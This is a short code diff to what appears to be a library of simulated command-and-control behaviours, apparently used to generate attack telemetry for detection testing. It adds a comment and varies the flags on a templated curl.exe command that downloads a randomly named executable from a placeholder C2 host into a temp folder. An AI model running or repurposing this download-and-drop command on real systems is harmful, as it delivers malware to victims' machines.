@@ -338,9 +338,10 @@ export const commandAndControlB = [
         files: ["C:\\Users\\Public\\{{rand}}.exe"],
       },
     ]),
+    // -k only when the server's certificate is self-signed; many operators front with a valid one.
     v("curl", [
       {
-        cmd: "curl.exe -k -o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
+        cmd: "curl.exe {{-k |-s |}}-o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
         net: [["{{c2}}", 443]],
         files: ["{{tmp}}\\{{rand}}.exe"],
       },
